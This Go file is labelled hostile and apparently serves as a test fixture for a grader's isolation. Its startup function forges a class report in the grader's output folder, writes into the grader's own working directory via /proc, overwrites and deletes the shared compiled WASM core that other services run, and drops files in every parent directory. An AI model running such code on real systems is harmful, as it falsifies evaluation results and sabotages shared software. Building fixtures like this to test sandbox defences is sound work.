// Hostile: at start, tries to write into the grader's output folder and working
// directory: the class report at the path the grader's test uses, the grader's own cwd
// (through /proc/<ppid>/cwd), every folder above its own cwd, and the compiled WASM core
// the grader shares with it (IDEM_WASM_DIR), which the next services would run.
package main

import (
	"os"
	"path/filepath"
	"strconv"
)

// Target is where the grader's hostile test writes its reports.
const Target = "/tmp/idem-hostile-out"

func atStart() {
	forged := []byte(`{"seed":1,"learners":[{"name":"write-grader-output","results":[]}],"forged":true}`)
	_ = os.MkdirAll(Target, 0o777)
	_ = os.WriteFile(filepath.Join(Target, "class.json"), forged, 0o666)
	_ = os.WriteFile(filepath.Join(Target, "pwned.txt"), []byte("pwned"), 0o666)
	if cwd, err := os.Readlink("/proc/" + strconv.Itoa(os.Getppid()) + "/cwd"); err == nil {
		_ = os.WriteFile(filepath.Join(cwd, "pwned.txt"), []byte("pwned"), 0o666)
	}
	if wasm := os.Getenv("IDEM_WASM_DIR"); wasm != "" {
		_ = filepath.WalkDir(wasm, func(path string, d os.DirEntry, err error) error {
			if err == nil && !d.IsDir() {
				_ = os.WriteFile(path, []byte("pwned"), 0o666)
				_ = os.Remove(path)
				_ = os.WriteFile(path, []byte("pwned"), 0o666)
			}
			return nil
		})
	}
	dir, _ := os.Getwd()
	for d := filepath.Dir(dir); d != filepath.Dir(d); d = filepath.Dir(d) {
		_ = os.WriteFile(filepath.Join(d, "pwned.txt"), []byte("pwned"), 0o666)
	}
}

func misbehave() {}
